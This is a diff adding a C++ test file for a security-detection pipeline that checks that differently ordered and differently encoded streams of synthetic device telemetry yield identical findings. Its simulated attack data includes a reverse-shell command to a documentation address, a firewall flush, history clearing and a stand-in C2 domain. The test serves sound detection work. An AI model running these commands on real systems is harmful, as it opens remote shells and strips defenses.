@@ -1,0 +1,254 @@
+// Two ways to drive the pipeline and two wires must give the same findings.
+#include <gmock/gmock.h>
+
+#include <numeric>
+
+#include "agent_core/base/random.h"
+#include "tests/pipeline_core/support.h"
+
+namespace picket {
+namespace {
+
+using namespace testing_support;
+
+struct Story {
+  struct Message {
+    DeviceId device;
+    std::uint32_t sequence;
+    Time time;
+    std::vector<Observation> observations;
+  };
+  TextTable texts;
+  std::vector<Message> messages;  ///< in (time, device, sequence) order
+  std::vector<OperationRecord> operations;
+};
+
+constexpr std::uint32_t kDevices = 150;
+constexpr int kMinutes = 240;
+
+/// Benign and malicious observations at random, with duplicates and late observations.
+void write_story(std::uint64_t seed, Story& story) {
+  RandomStream random(seed, 0, 0, Purpose::kTest);
+  std::vector<Text> commands;
+  for (int i = 0; i < 40; ++i) commands.push_back(story.texts.intern("/usr/bin/task " + std::to_string(i) + "x"));
+  for (const char* bad : {"iptables -F", "nohup /tmp/x &", "bash -i >& /dev/tcp/203.0.113.9/1 0>&1", "history -c"}) {
+    commands.push_back(story.texts.intern(bad));
+  }
+  const Text strange = story.texts.intern_template("/tmp/run{hex8} --now");
+  const Text root = story.texts.intern("root");
+  const Text name = story.texts.intern("c2.evil.example");
+  story.texts.freeze();
+  std::vector<std::uint32_t> sequence(kDevices);
+  for (int minute = 0; minute < kMinutes; ++minute) {
+    for (std::uint32_t d = 0; d < kDevices; ++d) {
+      if (!random.chance(d == 7 && minute > 60 ? 0.0 : 0.2)) continue;
+      const Time time =
+          kStart + Duration::minutes(minute) + Duration::seconds(static_cast<std::int64_t>(random.below(60)));
+      Story::Message m{DeviceId(d), sequence[d], time, {}};
+      if (!random.chance(0.05)) ++sequence[d];  // else the next message repeats the number
+      const std::uint64_t n = 1 + random.below(6);
+      for (std::uint64_t i = 0; i < n; ++i) {
+        const Time then =
+            time - Duration::seconds(static_cast<std::int64_t>(random.below(random.chance(0.1) ? 7200 : 60)));
+        const std::uint64_t draw = random.below(100);
+        if (draw < 50) {
+          const Text command = draw < 4 ? Text{strange.id, static_cast<std::uint32_t>(random.below(1000))}
+                                        : commands[random.below(draw < 44 ? 40 : commands.size())];
+          m.observations.push_back(at(then, ProcessRecord{command, {}, 7, 1, 0, ProcessOperation::kExec},
+                                      1 + static_cast<std::uint32_t>(random.below(3))));
+        } else if (draw < 80) {
+          NetworkRecord f;
+          f.local_address = IpAddress::v4(0xc0a80105);
+          f.remote_address = IpAddress::v4(0x5db80000U + static_cast<std::uint32_t>(random.below(3000)) * 64);
+          f.local_port = static_cast<std::uint16_t>(40000 + random.below(1000));
+          f.remote_port = draw < 55 ? 23 : 443;
+          f.bytes_out = random.below(1000);
+          m.observations.push_back(at(then, f));
+        } else if (draw < 98) {
+          LoginRecord l{root,
+                        {},
+                        IpAddress::v4(0xcb007100U + static_cast<std::uint32_t>(random.below(3))),
+                        0,
+                        random.chance(0.1) ? LoginOperation::kLogin : LoginOperation::kLoginFailed};
+          m.observations.push_back(at(then, l, 1 + static_cast<std::uint32_t>(random.below(8))));
+        } else {
+          m.observations.push_back(at(then, DnsRecord{name, false}));
+        }
+      }
+      if (d % 50 == 3) {  // scanners
+        for (std::uint32_t i = 0; i < 15; ++i)
+          m.observations.push_back(flow(time, "198.51.100." + std::to_string(i + 1), 23, 0));
+      }
+      story.messages.push_back(std::move(m));
+    }
+    if (random.chance(0.3)) {
+      story.operations.push_back(
+          {kStart + Duration::minutes(minute), DeviceId(static_cast<std::uint32_t>(random.below(kDevices))),
+           random.chance(0.5) ? OperationName::kDeviceConnect : OperationName::kDeviceDisconnect, 0, true});
+    }
+  }
+  std::sort(story.messages.begin(), story.messages.end(), [](const auto& a, const auto& b) {
+    return std::tie(a.time, a.device, a.sequence) < std::tie(b.time, b.device, b.sequence);
+  });
+  // Two messages of one device at one moment under one number would be ordered by luck only.
+  const auto same = [](const auto& a, const auto& b) {
+    return a.time == b.time && a.device == b.device && a.sequence == b.sequence;
+  };
+  story.messages.erase(std::unique(story.messages.begin(), story.messages.end(), same), story.messages.end());
+}
+
+std::shared_ptr<const PipelineContent> story_content() {
+  PipelineContent::Builder builder;
+  add_own_rules(builder);
+  builder.add_domain("evil.example", kStart, Time::max(), "t");
+  builder.add_address(IpAddress::v4(0x5db80040U), kStart, Time::max(), "t");
+  return builder.build();
+}
+
+std::unique_ptr<PipelineCore> start_core(const std::shared_ptr<const PipelineContent>& content,
+                                         const TextTable& texts) {
+  PipelineSettings settings;
+  settings.novelty_model.rare_share = 0.05;
+  auto core = std::make_unique<PipelineCore>(content, settings, texts);
+  for (std::uint32_t d = 0; d < kDevices; ++d)
+    core->register_device(DeviceId(d), ClassId(d % 3), Duration::minutes(20), kStart);
+  core->set_learning(true);
+  return core;
+}
+
+constexpr int kLearnedMinutes = 40;
+
+DeviceMessage message_of(const Story::Message& m) {
+  return {m.device, m.sequence, m.time, Encoding::kG2FlatBuffers, {}, m.observations};
+}
+
+std::vector<StoredFinding> run_simple(const Story& story, const std::shared_ptr<const PipelineContent>& content) {
+  auto core = start_core(content, story.texts);
+  StoringSink sink(*content);
+  const Time learned = kStart + Duration::minutes(kLearnedMinutes);
+  bool learning = true;
+  std::size_t o = 0;
+  for (const Story::Message& m : story.messages) {
+    while (o < story.operations.size() && story.operations[o].time <= m.time) {
+      if (learning && story.operations[o].time > learned) {
+        core->advance(learned, sink);
+        core->set_learning(learning = false);
+      }
+      core->ingest(story.operations[o++], sink);
+    }
+    if (learning && m.time > learned) {
+      core->advance(learned, sink);
+      core->set_learning(learning = false);
+    }
+    core->ingest(message_of(m), sink);
+  }
+  while (o < story.operations.size()) core->ingest(story.operations[o++], sink);
+  core->advance(kStart + Duration::minutes(kMinutes + 1), sink);
+  return sink.findings;
+}
+
+std::vector<StoredFinding> run_windows(const Story& story, const std::shared_ptr<const PipelineContent>& content,
+                                       int window_minutes, std::uint64_t shuffle_seed) {
+  auto core = start_core(content, story.texts);
+  StoringSink sink(*content);
+  RandomStream random(shuffle_seed, 0, 1, Purpose::kTest);
+  const auto shuffle = [&](auto& items) {
+    for (std::size_t i = items.size(); i > 1; --i) std::swap(items[i - 1], items[random.below(i)]);
+  };
+  Time begin = Time::min();
+  for (int minute = 0; minute <= kMinutes; minute += window_minutes) {
+    const Time end = kStart + Duration::minutes(minute);
+    std::vector<std::size_t> inside;
+    for (std::size_t i = 0; i < story.messages.size(); ++i) {
+      if (story.messages[i].time > begin && story.messages[i].time <= end) inside.push_back(i);
+    }
+    shuffle(inside);
+    for (const std::size_t i : inside) core->submit(message_of(story.messages[i]));
+    for (const OperationRecord& o : story.operations) {
+      if (o.time > begin && o.time <= end) core->submit(o);
+    }
+    std::vector<unsigned> order(PipelineCore::kShards);
+    std::iota(order.begin(), order.end(), 0U);
+    shuffle(order);
+    for (const unsigned s : order) core->run_shard(s, end);
+    core->run_fleet(end, sink);
+    if (minute == kLearnedMinutes) core->set_learning(false);
+    begin = end;
+  }
+  const PipelineCounts& c = core->counts();
+  EXPECT_EQ(c.submitted, c.messages + c.dropped[IngestDrop::kDuplicate]);
+  EXPECT_GT(c.dropped[IngestDrop::kDuplicate], 0u);
+  core->advance(kStart + Duration::minutes(kMinutes + 1), sink);
+  return sink.findings;
+}
+
+TEST(Driving, gives_equal_findings_one_by_one_and_in_shuffled_windows_of_any_length) {
+  const auto content = story_content();
+  for (std::uint64_t seed = 1; seed <= 3; ++seed) {
+    SCOPED_TRACE(seed);
+    Story story;
+    write_story(seed, story);
+    const std::vector<StoredFinding> simple = run_simple(story, content);
+    ASSERT_GT(simple.size(), 50u);
+    std::vector<std::string> alerts;
+    for (const StoredFinding& f : simple) alerts.push_back(f.alert);
+    // The story must reach every stage, or the comparison proves little.
+    for (const char* needed :
+         {"Disable firewall", "sim.scan_out", "sim.bruteforce_failed", "sim.bruteforce_success", "sim.fleet_stuffing",
+          "sim.novel_process", "sim.device_silent", "Malicious Domain Name Request"}) {
+      EXPECT_THAT(alerts, ::testing::Contains(needed));
+    }
+    EXPECT_TRUE(std::is_sorted(simple.begin(), simple.end(), [](const auto& a, const auto& b) {
+      return std::tie(a.time, a.device, a.rule) < std::tie(b.time, b.device, b.rule);
+    }));
+    for (const int window : {1, 8, 40}) {
+      SCOPED_TRACE(window);
+      EXPECT_EQ(run_windows(story, content, window, seed * 100 + static_cast<std::uint64_t>(window)), simple);
+    }
+  }
+}
+
+TEST(Driving, gives_equal_findings_from_structs_and_from_bytes) {
+  const auto content = story_content();
+  for (const Encoding encoding : {Encoding::kG1Json, Encoding::kG2FlatBuffers}) {
+    for (const bool extended : {false, true}) {
+      SCOPED_TRACE(std::string(to_string(encoding)) + (extended ? " extended" : ""));
+      Story story;
+      write_story(9, story);
+      auto exact = start_core(content, story.texts);
+      auto sized = start_core(content, story.texts);
+      exact->set_learning(false);
+      sized->set_learning(false);
+      StoringSink exact_sink(*content);
+      StoringSink sized_sink(*content);
+      std::vector<std::uint32_t> order;
+      for (const Story::Message& m : story.messages) {
+        std::vector<Observation> carried;
+        for (const Observation& o : m.observations) {
+          if (can_carry(encoding, o.record)) carried.push_back(o);
+        }
+        if (carried.empty()) continue;
+        const AgentIdentity identity{m.device, "d", "module", "1.2.3", {}, {1, m.device.value()}, extended};
+        const SecurityMessage message{m.sequence, m.time, carried, {}};
+        std::string bytes;
+        encode(encoding, identity, message, story.texts, bytes);
+        exact->submit(DeviceMessage{m.device, m.sequence, m.time, encoding, bytes, {}});
+        wire_order(encoding, carried, order);
+        std::vector<Observation> received;
+        for (const std::uint32_t i : order) received.push_back(as_received(encoding, identity, message, carried[i]));
+        sized->submit(DeviceMessage{m.device, m.sequence, m.time, encoding, {}, received});
+      }
+      const Time end = kStart + Duration::minutes(kMinutes + 1);
+      exact->advance(end, exact_sink);
+      sized->advance(end, sized_sink);
+      EXPECT_EQ(exact->counts().dropped[IngestDrop::kUndecodable], 0u);
+      ASSERT_GT(sized_sink.findings.size(), 50u);
+      EXPECT_EQ(exact_sink.findings, sized_sink.findings);
+      EXPECT_EQ(exact->counts().observations, sized->counts().observations);
+      EXPECT_EQ(exact->counts().hits, sized->counts().hits);
+    }
+  }
+}
+
+}  // namespace
+}  // namespace picket
